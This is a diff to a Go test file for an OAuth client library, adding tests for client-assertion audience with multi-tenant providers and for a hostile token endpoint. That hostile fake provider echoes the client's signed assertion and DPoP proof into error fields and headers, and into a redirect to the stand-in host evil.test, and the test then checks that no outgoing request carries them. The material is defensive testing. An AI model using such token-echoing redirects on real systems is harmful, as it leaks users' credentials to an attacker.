@@ -11,13 +11,16 @@ import (
 	"encoding/json"
 	"errors"
 	"io"
+	"net/http"
 	"net/url"
 	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/netscript/auth"
+	"github.com/netscript/auth/authtest"
 	"github.com/netscript/auth/authtest/fakeop"
 	"github.com/netscript/auth/kvoauth"
 	"github.com/netscript/auth/providers"
@@ -200,6 +203,23 @@ func TestAssertionAudience(t *testing.T) {
 	}
 }
 
+// TestAssertionAudienceWithoutIssuer: of a provider of many tenants, which has no one issuer, the token endpoint is named.
+func TestAssertionAudienceWithoutIssuer(t *testing.T) {
+	key := newECKey(t)
+	g := newRig(t, withSigningKeys(rigOptions{backend: func(c *kvoauth.Config) {
+		p := &c.Clients[0].Provider
+		p.AuthorizationEndpoint, p.TokenEndpoint, p.JWKSURI = p.Issuer+"/authorize", p.Issuer+"/token", p.Issuer+"/jwks"
+		p.TenantIssuer, p.AllowedTenants, p.Issuer = p.Issuer+"/{tenantid}/v2.0", []string{"t1"}, ""
+	}}, map[string]crypto.PublicKey{"k1": key.Public()}, signingKey(t, key, "k1", "")))
+	g.idp.SetFaults(fakeop.Faults{Callback: func(v url.Values) { v.Del("iss") }})
+	if _, err := g.HandleCallback(g.callback("alice")); auth.CodeOf(err) != auth.CodeIDTokenInvalid { // it is no tenant's
+		t.Fatal(err)
+	}
+	if aud := jwtPart(t, g.forms(fakeop.EndpointToken)[0].Get("client_assertion"), 1)["aud"]; aud != g.idp.Issuer()+"/token" {
+		t.Errorf("aud %v", aud)
+	}
+}
+
 // TestSigningKeyRotation: the first key signs. A provider that knows both keys meanwhile notices nothing.
 func TestSigningKeyRotation(t *testing.T) {
 	oldKey, newKey := newECKey(t), newPrivateKey(t, "EdDSA")
@@ -231,6 +251,45 @@ func TestSigningKeyRotation(t *testing.T) {
 		t.Errorf("a key that the provider does not know: %v", err)
 	}
 	g.mustBe(credential(result), "")
+}
+
+// TestHostileClientAssertion: a provider that repeats what it was sent, in every field and header that it has, puts it
+// nowhere.
+func TestHostileClientAssertion(t *testing.T) {
+	key := newECKey(t)
+	idp := newIDP(t, authtest.ProviderConfig{Configure: func(c *fakeop.Config) {
+		c.RequirePushedAuthorization = true
+		c.Clients[0].Secret, c.Clients[0].AuthMethod, c.Clients[0].IDTokenAlg = "", fakeop.AuthKeyJWT, "ES256"
+		c.Clients[0].Keys = map[string]crypto.PublicKey{"k1": key.Public()}
+	}})
+	for _, status := range []int{200, 302, 400, 401, 500} {
+		t.Run(strconv.Itoa(status), func(t *testing.T) {
+			idp.SetFaults(fakeop.Faults{Before: map[fakeop.Endpoint]fakeop.Hook{fakeop.EndpointToken: func(w http.ResponseWriter, r *http.Request) bool {
+				sent := r.Form.Get("client_assertion") + " " + r.Header.Get("DPoP")
+				body, err := json.Marshal(map[string]any{"error": sent, "error_description": sent, "error_uri": sent, "token_type": sent})
+				w.Header().Set("Content-Type", "application/json")
+				w.Header().Set("WWW-Authenticate", `Basic realm="`+sent+`"`)
+				w.Header().Set("Location", "https://evil.test/?"+url.QueryEscape(sent))
+				w.WriteHeader(status)
+				_, _ = w.Write(body)
+				return err == nil
+			}}})
+			w := newWorld(t, idp, func(c *kvoauth.Config) {
+				c.Clients[0].SigningKeys, c.Clients[0].DPoP = []kvoauth.SigningKey{signingKey(t, key, "k1", "")}, true
+			})
+			b := w.browser()
+			a := w.finish(b, w.begin(b))
+			if a.status < 400 || b.SignedIn() || w.kv.sessions() != 0 {
+				t.Errorf("status %d", a.status)
+			}
+			w.silent(a)
+			for _, target := range w.egress.targets() {
+				if strings.Contains(target, "eyJ") || strings.Contains(target, "evil.test") {
+					t.Errorf("a request to %.80s", target)
+				}
+			}
+		})
+	}
 }
 
 // brokenSigner is a key whose device fails.
